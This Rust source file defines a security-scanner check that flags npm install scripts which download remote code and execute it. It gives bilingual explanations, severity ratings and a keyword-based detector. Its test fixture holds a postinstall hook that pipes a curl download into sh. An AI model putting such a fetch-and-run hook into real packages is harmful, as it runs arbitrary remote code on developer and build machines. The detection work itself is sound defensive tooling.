//! Scripts of installation that fetch and run.

use crate::{
    check::{Check, Examine, Mutant, Owasp},
    evidence::components::{Ecosystem, Form, Inventory},
    finding::{Severity, Verdict},
    words::Words,
};

pub(crate) static CHECK: Check = Check {
    id: "install-script-downloads",
    title: Words { en: "A script of installation fetches code and runs it", es: "Un script de instalación descarga código y lo ejecuta" },
    done: Words {
        en: "Reads preinstall, install, postinstall and prepare of every package.json.",
        es: "Se leen preinstall, install, postinstall y prepare de cada package.json.",
    },
    why: Words {
        en: "Every developer and every build runs whatever that address answers.",
        es: "Cada desarrollador y cada compilación ejecutan lo que responda esa dirección.",
    },
    fix: Words {
        en: "Take it as a component with a checksum; install with ignore-scripts where possible.",
        es: "Tomarlo como componente con suma de comprobación; instalar con ignore-scripts donde sea posible.",
    },
    severity: Severity::High,
    owasp: Owasp { of_2017: 0, of_2021: 8, of_2025: 8 },
    cwe: &[494, 829],
    asvs: &["V15.2.4"],
    controls: &["SC-078", "SC-081"],
    examine: Examine::Components(look),
    mutant: Mutant {
        red: &[(
            "package.json",
            r#"{"scripts":{
"postinstall": "curl -s https://get.solar.mx/setup.sh | sh"}}"#,
        )],
        green: &[(
            "package.json",
            r#"{"scripts":{
"postinstall": "prisma generate"}}"#,
        )],
    },
};

fn look(inventory: &Inventory) -> Verdict {
    inventory.over_files(
        Words { en: "because there is no package.json", es: "porque no hay package.json" },
        |file| file.ecosystem == Ecosystem::Npm && matches!(file.form, Form::Manifest { .. }),
        |file, seen| {
            for setting in &file.settings {
                let fetches = ["curl ", "wget ", "http://", "Invoke-WebRequest", "iwr "].iter().any(|word| setting.value.contains(word));
                let runs = ["| sh", "|sh", "| bash", "|bash", "| node", "bash -c", "sh -c", "eval", "chmod +x", "node -e", "&& ./"];
                if fetches && runs.iter().any(|word| setting.value.contains(word)) {
                    seen.line(&file.name, setting.line, &format!("{}: {}", setting.name, setting.value));
                }
            }
        },
    )
}
